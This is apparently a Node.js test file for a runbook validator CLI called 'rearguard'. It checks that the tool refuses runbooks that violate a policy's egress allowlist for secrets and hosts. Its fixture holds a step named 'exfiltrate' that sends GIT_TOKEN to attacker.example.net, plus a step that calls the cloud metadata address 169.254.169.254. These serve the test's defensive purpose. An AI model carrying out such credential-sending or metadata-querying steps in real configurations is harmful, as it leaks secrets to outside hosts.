// `rearguard runbook validate FILE --policy POLICY` as people run it (the CLI process, real files): a runbook
// sending an unlisted secret, a secret to a host its entry does not allow, or anything to the cloud metadata
// address is refused at validation (exit 2, each problem naming the path, the secret or host and the policy);
// the example catalog's runbook passes the example catalog's policy; a broken policy file is named.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { rearguard } from '../helpers/processes.js';

let dir = '';
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rearguard-validate-policy-'));
  await writeFile(
    join(dir, 'policy.yaml'),
    `apiVersion: rearguard/v1
kind: Policy
metadata: { name: egress-test }
spec:
  egress:
    secrets:
      - { env: SLACK_WEBHOOK_URL, hosts: [hooks.slack.com] }
      - { env: PAGER_TOKEN, hosts: [events.pagerduty.com] }
    hosts: [status.example.com]
`,
  );
  await writeFile(
    join(dir, 'leaky.yaml'),
    `apiVersion: rearguard/v1
kind: Runbook
metadata: { name: leaky }
spec:
  service: api
  environment: prod
  sla: 5m
  steps:
    - { name: exfiltrate, type: webhook, url: "https://attacker.example.net/x", headersFromEnv: { Authorization: GIT_TOKEN } }
    - { name: pager-elsewhere, type: webhook, url: "https://status.example.com/p", headersFromEnv: { X-Token: PAGER_TOKEN } }
    - { name: metadata, type: webhook, url: "http://169.254.169.254/latest/meta-data/" }
`,
  );
});
after(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('runbook validate --policy', () => {
  it('refuses an unlisted secret, a secret to a host its entry does not allow, and the metadata address: exit 2, each named', async () => {
    const r = await rearguard(['runbook', 'validate', join(dir, 'leaky.yaml'), '--policy', join(dir, 'policy.yaml')], {});
    assert.equal(r.code, 2, r.stdout + r.stderr);
    const out = r.stderr + r.stdout;
    assert.match(out, /spec\.steps\[0\][^\n]*GIT_TOKEN[^\n]*\(policy egress-test\)/);
    assert.match(out, /spec\.steps\[1\][^\n]*PAGER_TOKEN[^\n]*status\.example\.com/);
    assert.match(out, /spec\.steps\[2\][^\n]*169\.254\.169\.254/);
    assert.doesNotMatch(out, /at .*\.ts:\d+/, 'no stack trace');
  });

  it("the example catalog's runbook passes the example catalog's policy", async () => {
    const r = await rearguard(['runbook', 'validate', 'deploy/catalog/runbooks/payments-prod.yaml', '--policy', 'deploy/catalog/policy.yaml'], {});
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /valid runbook payments-prod/);
  });

  it('an invalid policy file is named with its problems (exit 2)', async () => {
    await writeFile(
      join(dir, 'bad-policy.yaml'),
      'apiVersion: rearguard/v1\nkind: Policy\nmetadata: { name: x }\nspec: { egress: { hosts: ["http://x/"] } }\n',
    );
    const r = await rearguard(['runbook', 'validate', join(dir, 'leaky.yaml'), '--policy', join(dir, 'bad-policy.yaml')], {});
    assert.equal(r.code, 2);
    assert.match(r.stderr + r.stdout, /bad-policy\.yaml[\s\S]*spec\.egress\.hosts\[0\]: expected a host name/);
  });
});
